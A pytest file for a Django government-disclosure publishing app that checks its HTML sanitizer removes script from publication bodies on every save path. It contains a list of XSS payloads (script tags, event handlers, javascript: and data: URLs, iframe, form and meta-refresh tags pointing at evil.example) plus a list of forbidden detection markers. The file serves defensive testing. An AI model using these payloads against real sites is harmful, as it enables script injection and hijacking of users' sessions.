"""Nothing put into a body, by the editor, an import or the shell, reaches a page as script."""

import pytest

from disclosure.lib.html import safe_body, sanitize_body
from disclosure.models import Publication
from tests.factories import make_draft, make_published

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<p onclick=alert(1)>点我</p>",
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="&#106;avascript:alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">样式</p>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">遮罩</div>',
    '<form action="https://evil.example"><input name=x></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    '<a href="https://example.gov.cn" target="_blank" onmouseover="alert(1)">正常链接</a>',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "ontoggle",
    "javascript:",
    "<svg",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "style=",
    "<form",
    "<meta",
    "<base",
    "<link",
    "data:text",
    "srcdoc",
]


def assert_clean(html: str) -> None:
    lowered = html.lower()
    for marker in FORBIDDEN:
        assert marker not in lowered, (marker, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitizer_removes_every_payload(payload):
    assert_clean(sanitize_body(payload))


def test_allowed_markup_survives():
    html = (
        "<h2>标题</h2><p><strong>粗</strong><em>斜</em></p><ul><li>一</li></ul>"
        '<p><a href="https://www.gov.cn/">中国政府网</a></p>'
        "<table><tbody><tr><td>单元格</td></tr></tbody></table>"
    )
    clean = sanitize_body(html)
    for part in (
        "<h2>标题</h2>",
        "<strong>粗</strong>",
        "<li>一</li>",
        'href="https://www.gov.cn/"',
        "<td>单元格</td>",
    ):
        assert part in clean


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_save_from_the_shell_is_sanitized(people, payload):
    draft = make_draft(people.editor, body=payload)
    draft.body = payload  # set again after the service, and saved directly
    draft.save()
    assert_clean(Publication.objects.get(pk=draft.pk).body)


def test_queryset_update_and_bulk_create_are_sanitized(people):
    draft = make_draft(people.editor)
    Publication.objects.filter(pk=draft.pk).update(body=PAYLOADS[0] + PAYLOADS[2])
    assert_clean(Publication.objects.get(pk=draft.pk).body)
    copy = Publication(
        item=draft.item,
        office=draft.office,
        title="批量",
        created_by=people.editor,
        body=PAYLOADS[4],
    )
    Publication.objects.bulk_create([copy])
    assert_clean(Publication.objects.get(title="批量").body)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_public_pages_never_carry_the_payload(client, people, payload):
    published = make_published(people, title="正文测试", body=payload)
    for url in (published.get_absolute_url(), published.print_url()):
        html = client.get(url).content.decode()
        body = html[html.index('<div class="prose">') :]
        assert_clean(body.split("</div>")[0])


def test_titles_and_other_fields_are_escaped(client, people):
    published = make_published(
        people, title="<script>alert(1)</script>", summary='<img src=x onerror="alert(1)">'
    )
    html = client.get(published.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<img src=x onerror="alert(1)">' not in html


def test_table_captions_scopes_and_spans_survive_and_nothing_else():
    html = (
        "<table><caption>收到和处理政府信息公开申请情况<script>alert(1)</script></caption>"
        '<thead><tr><th scope="colgroup" colspan="5" onclick="alert(1)">法人或其他组织</th></tr></thead>'
        '<tbody><tr><th scope="rowgroup" rowspan="8" style="color:red">（三）不予公开</th>'
        '<th scope="row">1.属于国家秘密</th><td colspan="2" rowspan="1" onmouseover="alert(1)">0</td>'
        "</tr></tbody></table>"
    )
    clean = sanitize_body(html)
    for part in (
        "<caption>收到和处理政府信息公开申请情况</caption>",
        '<th scope="colgroup" colspan="5">法人或其他组织</th>',
        '<th scope="rowgroup" rowspan="8">（三）不予公开</th>',
        '<th scope="row">1.属于国家秘密</th>',
        '<td colspan="2" rowspan="1">0</td>',
    ):
        assert part in clean
    assert_clean(clean)


def test_a_saved_body_keeps_the_tables_markup(people):
    table = '<table><caption>表</caption><tbody><tr><th scope="row">行</th><td>1</td></tr></tbody></table>'
    draft = make_draft(people.editor, body=table)
    assert Publication.objects.get(pk=draft.pk).body == table


def test_each_table_on_a_page_scrolls_in_a_box_named_after_its_caption():
    body = (
        "<p>前言</p><table><caption>表三 <b>收到</b>申请</caption><tr><td>1</td></tr></table>"
        "<table><tr><td>2</td></tr></table>"
    )
    shown = str(safe_body(body))
    assert shown.count('<div class="table-scroll" tabindex="0" role="region"') == 2
    assert 'aria-label="表三 收到申请"><table><caption>' in shown
    assert 'aria-label="表格"><table><tbody>' in shown
    assert shown.count("</table></div>") == 2 and shown.startswith("<p>前言</p>")


def test_a_caption_cannot_break_out_of_its_box_label():
    shown = str(safe_body('<table><caption>"><script>x</script>标题</caption></table>'))
    assert "<script" not in shown and 'aria-label="&quot;&gt;标题"><table>' in shown
